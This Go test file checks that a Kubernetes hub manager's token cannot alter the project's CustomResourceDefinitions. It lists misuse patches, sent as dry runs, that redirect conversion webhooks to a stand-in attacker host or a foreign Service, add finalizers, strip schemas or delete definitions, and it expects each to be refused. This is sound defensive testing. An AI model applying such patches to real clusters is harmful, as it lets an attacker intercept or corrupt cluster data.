package attacks_test

import (
	"context"
	"testing"

	"github.com/stretchr/testify/require"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/yaml"

	"github.com/spokelet/spokelet/manifests"
)

const policyDefinitions = "hub-manager-definitions.spokelet.io"

// edit patches a definition of ours, without effect.
func edit(name string, how types.PatchType, data string) attempt {
	return func(ctx context.Context, c client.Client) error {
		return c.Patch(ctx, bare("CustomResourceDefinition", name), client.RawPatch(how, []byte(data)), client.DryRunAll)
	}
}

// convertBy is a patch that has objects converted by a client.
func convertBy(client string) string {
	return `{"spec":{"conversion":{"strategy":"Webhook","webhook":{"conversionReviewVersions":["v1"],"clientConfig":` +
		client + `}}}}`
}

// ours returns the names of the definitions that ship.
func ours(t *testing.T) []string {
	t.Helper()
	var all []string
	for _, doc := range manifests.CRDs() {
		u := &unstructured.Unstructured{}
		require.NoError(t, yaml.Unmarshal(doc, &u.Object))
		all = append(all, u.GetName())
	}
	return all
}

func misusesOfDefinitions(t *testing.T) map[string]misuse {
	t.Helper()
	const merge = types.MergePatchType
	all := map[string]misuse{}
	for _, name := range ours(t) {
		for sentence, try := range map[string]attempt{
			"has objects converted at an address of its choice":   edit(name, merge, convertBy(`{"url":"https://attacker.example/convert"}`)),
			"has objects converted at an address that looks good": edit(name, merge, convertBy(`{"url":"https://127.0.0.1.attacker.example/convert"}`)),
			"has objects converted by a Service elsewhere":        edit(name, merge, convertBy(`{"service":{"namespace":"default","name":"mine"}}`)),
			"adds an owner that does not exist": edit(name, merge,
				`{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"ConfigMap","name":"none","uid":"none"}]}}`),
			"adds a finalizer": edit(name, merge, `{"metadata":{"finalizers":["example.com/stays"]}}`),
			"no longer serves a version": edit(name, types.JSONPatchType,
				`[{"op":"replace","path":"/spec/versions/0/served","value":false}]`),
			"takes the schema of a version away": edit(name, types.JSONPatchType,
				`[{"op":"replace","path":"/spec/versions/0/schema","value":{"openAPIV3Schema":{"type":"object","x-kubernetes-preserve-unknown-fields":true}}}]`),
			"renames a definition": edit(name, merge, `{"spec":{"names":{"shortNames":["po"]}}}`),
		} {
			all[sentence+": "+name] = misuse{theManager, try, policyDefinitions}
		}
		all["deletes a definition: "+name] = misuse{theManager, remove(bare("CustomResourceDefinition", name)), ""}
	}
	return all
}

// Shows: security/definitions-redirected
func TestTheTokenOfTheHubManagerCannotChangeDefinitions(t *testing.T) {
	refuse(t, misusesOfDefinitions(t))
	t.Run("while it has add-ons converted by its own Service", func(t *testing.T) {
		own := convertBy(`{"service":{"namespace":"open-cluster-management-hub","name":"spokelet-hub-webhook","path":"/convert"}}`)
		const addOns = "managedclusteraddons.addon.open-cluster-management.io"
		require.NoError(t, edit(addOns, types.MergePatchType, own)(t.Context(), shared.clients[theManager]))
		err := edit("placements.cluster.open-cluster-management.io", types.MergePatchType, own)(t.Context(),
			shared.clients[theManager])
		require.ErrorContains(t, err, "the conversion of add-ons and of no other kind")
	})
	t.Run("and an address or a schema where an administrator grants it", func(t *testing.T) {
		const elsewhere = "https://converter.example/convert"
		require.NoError(t, shared.plane.Apply(t.Context(), []byte(grants)))
		try := edit("managedclusteraddons.addon.open-cluster-management.io", types.MergePatchType,
			convertBy(`{"url":"`+elsewhere+`"}`))
		require.NoError(t, poll(t.Context(), func(ctx context.Context) error { return try(ctx, shared.clients[theManager]) }))
	})
}

// grants lets the hub manager have add-ons converted at one further address.
const grants = `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: test-conversion-elsewhere}
rules:
- apiGroups: [apiextensions.k8s.io]
  resources: [customresourcedefinitions/conversion]
  resourceNames: ["https://converter.example/convert"]
  verbs: [update]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: test-conversion-elsewhere}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: test-conversion-elsewhere}
subjects:
- {kind: ServiceAccount, namespace: open-cluster-management-hub, name: spokelet-hub}
`
